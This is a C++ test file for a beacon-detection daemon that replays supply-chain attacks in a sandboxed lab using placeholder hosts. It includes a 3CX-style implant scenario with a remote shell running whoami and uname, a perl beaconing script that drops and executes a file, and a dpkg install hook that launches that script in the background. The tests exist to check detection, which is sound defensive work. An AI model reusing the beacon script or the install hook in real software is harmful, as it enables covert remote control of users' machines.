// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 The tocsin authors
// Campaigns of the last years, done for real on this machine in compressed time: real packages, a
// real name server, real TLS, a real shell. Only the far end and the clock's pace are made up.
#include <signal.h>

#include <chrono>
#include <sstream>
#include <thread>

#include "beacon/state_file.hpp"
#include "support/debian_package.hpp"
#include "support/kernel.hpp"
#include "support/net_lab.hpp"
#include "support/operator_session.hpp"

using namespace tocsin;
using namespace tocsin::test;
using nlohmann::json;

namespace {

constexpr double kDayS = 86'400;

// What this machine lacks for any of it; empty: nothing.
std::string lacks() {
  const auto lab = NetLab::lacks();
  return lab.empty() ? DebianPackage::lacks() : lab;
}

bool of_beacons(const json& alert) {
  const auto code = at(alert, "event.code");
  return code == "beacon" || code == "incident";
}

std::vector<json> told_of(Daemon& daemon, const std::string& destination) {
  std::vector<json> out;
  for (const auto& alert : daemon.alerts())
    if (of_beacons(alert) && at(alert, "tocsin.beacon.destination") == destination)
      out.push_back(alert);
  return out;
}

std::int64_t package_files(Daemon& daemon) {
  const auto packages = daemon.status().at("packages");
  return packages.at("read") == true ? packages.at("files").get<std::int64_t>() : -1;
}

// The databases are read again when they rested two seconds; one reading may have come while dpkg
// was still writing, so the last counts.
void wait_for_packages(Daemon& daemon, std::int64_t more_than) {
  constexpr int kStill = 60;  // polls of 50 ms
  std::int64_t files = -1;
  int still = 0;
  for (int i = 0; i < 900 && still < kStill; ++i) {
    std::this_thread::sleep_for(Millis(50));
    const auto now = package_files(daemon);
    still = now == files && now > more_than ? still + 1 : 0;
    files = now;
  }
  REQUIRE(still == kStill);
}

std::string with_tail(const std::string& action, const std::string& tail) {
  return read_text(action_path(action)) + tail;
}

}  // namespace

namespace {

// ---- 3CX, 2023: a vendor's update brings a library that sleeps, calls a look-alike, opens a shell

constexpr double kStoryScale = 240;
constexpr const char* kLookAlike = "voicedesk-cdn.example";
constexpr const char* kFolder = "/opt/tocsin-test-voicedesk";

std::string program() {
  return std::string(kFolder) + "/desktop";
}
std::string library() {
  return std::string(kFolder) + "/libvoice.so";
}

// What a daemon would remember that saw version 1 sixteen days ago, in the story's time.
void remember_version_1(const std::filesystem::path& state_dir, const std::string& sha256) {
  const auto ago = [now = SystemClock().wall_ns()](double days) {
    return now - static_cast<WallNs>(days * kDayS / kStoryScale * kNsPerSecond);
  };
  KnownPrograms past(kStoryScale);
  past.begin_coverage(ago(20));
  past.see({.id = *Sha256::parse(sha256), .container = {}, .path = program(), .now_ns = ago(16)});
  std::filesystem::create_directories(state_dir);
  const auto bytes = encode_beacon_state(BeaconTable(BeaconOptions{}), past);
  REQUIRE(save_beacon_state(state_dir / "beacons.state", bytes));
}

std::vector<DebianPackage::File> version(int number) {
  const auto tail = "version " + std::to_string(number);
  std::vector<DebianPackage::File> files = {
      {program(), with_tail("vendor_desktop", tail)},
      {library(), with_tail(number == 1 ? "voice_library.so" : "voice_implant.so", tail)}};
  if (number > 1) files.push_back({std::string(kFolder) + "/CHANGES", "Improved sound.\n", 0644});
  return files;
}

void check_incident(Daemon& daemon, const json& alert, const std::string& before) {
  CHECK(at(alert, "tocsin.severity") == "critical");
  CHECK(at(alert, "process.executable") == program());
  CHECK(at(alert, "tocsin.beacon.evidence.timing").get<double>() > 1);
  CHECK(at(alert, "tocsin.beacon.evidence.destination") == 1.5);
  CHECK(at(alert, "tocsin.incident.update.before") == before);
  CHECK(at(alert, "package.version") == "2");
  CHECK(at(alert, "tocsin.package_intact") == true);  // the vendor's own package
  const auto modules = at(alert, "tocsin.modules");
  REQUIRE(modules.is_array());
  CHECK(std::any_of(modules.begin(), modules.end(),
                    [](const json& m) { return m.value("path", "") == library(); }));
  CHECK(at(alert, "tocsin.names").at(0).at("source") == "own-dns");
  // In one line: the terminal's width breaks it anywhere.
  std::istringstream words(daemon.cli({"explain", at(alert, "event.id").get<std::string>()}).out);
  std::string explained;
  for (std::string word; words >> word;) explained += word + ' ';
  INFO(explained);
  for (const auto& part : {std::string(kLookAlike), std::string("asked for it itself"), library(),
                           std::string("updated 20"), std::string("every "), std::string("sh -i"),
                           std::string("whoami"), std::string("uname")}) {
    INFO(part);
    CHECK(explained.find(part) != std::string::npos);
  }
}

}  // namespace

TEST_CASE("a vendor's update that calls a look-alike and opens a shell is one incident",
          "[supply-chain]") {
  TOCSIN_NEEDS_KERNEL();
  if (const auto why = lacks(); !why.empty())
    return print_skipped(Catch::getResultCapture().getCurrentTestName(), why);
  NetLab net(NetLab::Names{{kLookAlike, "203.0.113.81"}});
  net.start_dns();
  net.resolve_by(NetLab::kDns);
  net.start_tls();
  const TempDir dir;
  const auto old = version(1);
  write_file(dir / "old", old[0].content);
  const auto before = sha256_of(dir / "old");
  remember_version_1(dir / "state", before);
  DebianPackage package("tocsin-test-voicedesk");
  Daemon daemon({.settings = {"beacon.time_scale=240", "capture.costly_hooks=true",
                              "state_dir=" + (dir / "state").string()}});
  require_ready(daemon);
  wait_for_packages(daemon, 0);
  auto files = package_files(daemon);
  package.install("1", old);
  wait_for_packages(daemon, files);
  files = package_files(daemon);
  net.start({program(), library()})->wait(Millis(5'000));
  package.install("2", version(2));
  wait_for_packages(daemon, files);

  OperatorSession far_end({.net_ns_path = net.net_ns_path(),
                           .address = "203.0.113.81",
                           .port = 4443,
                           .commands = "whoami\nid\nuname -a\nexit\n"});
  const auto implanted = net.start({program(), library(), kLookAlike, "2000", "600", "16", "4443"});
  const auto alert = daemon.wait_alert(of_beacons, Millis(40'000));
  INFO(told(daemon) << implanted->out() << implanted->err());
  INFO(far_end.transcript());
  REQUIRE(alert);
  CHECK(implanted->wait(Millis(5'000)) == 0);
  check_incident(daemon, *alert, before);
  std::this_thread::sleep_for(Millis(1'500));
  const auto all = daemon.alerts();
  CHECK(std::count_if(all.begin(), all.end(), of_beacons) == 1);
  CHECK(daemon.stop() == 0);
}

namespace {

// ---- Two of 2026, both scripts

// A script that contacts NAME from inside the lab every so many milliseconds; perl, because it is
// on every Debian.
constexpr const char* kPolls = R"perl(
use strict; use IO::Socket::INET; use Time::HiRes qw(sleep);
my ($name, $port, $gap, $times, @then) = @ARGV;
for my $i (1 .. $times) {
  my $s = IO::Socket::INET->new(PeerAddr => $name, PeerPort => $port, Timeout => 2);
  if ($s) { print $s "GET / HTTP/1.0\r\n\r\n"; close $s; }
  sleep($gap / 1000) if $i < $times;
}
if (@then) { open(my $f, '>', $then[0]) or die; print $f "#!/bin/sh\nsleep 0.2\n"; close $f;
  chmod 0755, $then[0]; system { $then[0] } $then[0]; }
)perl";

struct Lab {
  NetLab net;
  explicit Lab(const char* name) : net(NetLab::Names{{name, "203.0.113.82"}}) {
    net.start_dns();
    net.resolve_by(NetLab::kDns);
    net.start_tls();
  }
};

// Below /root, gone with the test.
struct HiddenFolder {
  std::filesystem::path path = "/root/.config/tocsin-test-sysmon";
  HiddenFolder() { std::filesystem::create_directories(path); }
  ~HiddenFolder() {
    std::error_code ignored;
    std::filesystem::remove_all(path, ignored);
  }
};

}  // namespace

TEST_CASE("a script in a hidden folder that a young unit starts is a notice by its own digest",
          "[supply-chain]") {
  TOCSIN_NEEDS_KERNEL();
  if (const auto why = NetLab::lacks(); !why.empty())
    return print_skipped(Catch::getResultCapture().getCurrentTestName(), why);
  constexpr const char* kName = "models-llm.example";
  const Lab lab(kName);
  Daemon daemon({.settings = {"beacon.time_scale=3600"}});
  require_ready(daemon);
  const HiddenFolder folder;
  const auto script = folder.path / "sysmon.pl";
  write_file(script, kPolls);
  // No systemd runs on test machines: a program of its name in its role.
  const TempDir dir;
  std::filesystem::copy_file(std::filesystem::canonical("/bin/sh"), dir / "systemd");
  const auto unit =
      lab.net.start({dir / "systemd", "-c",
                     "/usr/bin/perl " + script.string() + " " + kName + " 443 833 12; true"});
  const auto alert = daemon.wait_alert(of_beacons, Millis(20'000));
  INFO(told(daemon) << unit->err());
  REQUIRE(alert);
  CHECK(at(*alert, "event.code") == "beacon");
  CHECK(at(*alert, "tocsin.beacon.verdict") == "notice");
  CHECK(at(*alert, "tocsin.beacon.subject.path") == script.string());
  CHECK(at(*alert, "tocsin.beacon.subject.sha256") == sha256_of(script));
  CHECK(at(*alert, "tocsin.beacon.evidence.image") == 3.0);
  CHECK(at(*alert, "tocsin.beacon.evidence.lineage").get<double>() >= 0.2);  // less at a terminal
  CHECK(unit->wait(Millis(15'000)) == 0);
  CHECK(told_of(daemon, kName).size() == 1);
  CHECK(daemon.stop() == 0);
}

TEST_CASE("a script in /tmp from an install hook that drops and executes is an alert",
          "[supply-chain]") {
  TOCSIN_NEEDS_KERNEL();
  if (const auto why = lacks(); !why.empty())
    return print_skipped(Catch::getResultCapture().getCurrentTestName(), why);
  constexpr const char* kName = "packages-mirror.example";
  const Lab lab(kName);
  DebianPackage package("tocsin-test-plain-crypto");
  Daemon daemon({.settings = {"beacon.time_scale=3600"}});
  require_ready(daemon);
  const TempDir dir;
  const auto script = dir / "ld.pl", dropped = dir / "payload";
  // The hook is dpkg's own, the lineage real: dpkg, its maintainer script, sh, the script.
  package.install("1", {{"/opt/tocsin-test-plain-crypto/README", "x\n", 0644}},
                  "#!/bin/sh\ncat > " + script.string() + " <<'END'\n" + kPolls +
                      "END\nsetsid sh -c 'nsenter --net --mount --target " +
                      std::to_string(lab.net.first_pid()) + " -- /usr/bin/perl " + script.string() +
                      " " + kName + " 443 600 20 " + dropped.string() +
                      "; true' >/dev/null 2>&1 &\n");
  const auto alert = daemon.wait_alert(
      [](const json& a) { return of_beacons(a) && at(a, "tocsin.beacon.verdict") != "notice"; },
      Millis(40'000));
  INFO(told(daemon));
  REQUIRE(alert);
  CHECK(at(*alert, "event.code") == "incident");
  CHECK(at(*alert, "tocsin.severity") == "high");
  CHECK(at(*alert, "tocsin.beacon.subject.path") == script.string());
  CHECK(at(*alert, "tocsin.beacon.evidence.image") == 3.5);
  CHECK(at(*alert, "tocsin.beacon.evidence.lineage").get<double>() >= 0.5);
  CHECK(at(*alert, "tocsin.beacon.evidence.follow_up") == 1.0);
  CHECK(at(*alert, "tocsin.incident.steps").at(0).at("what") == "dropped");
  CHECK(daemon.stop() == 0);
}
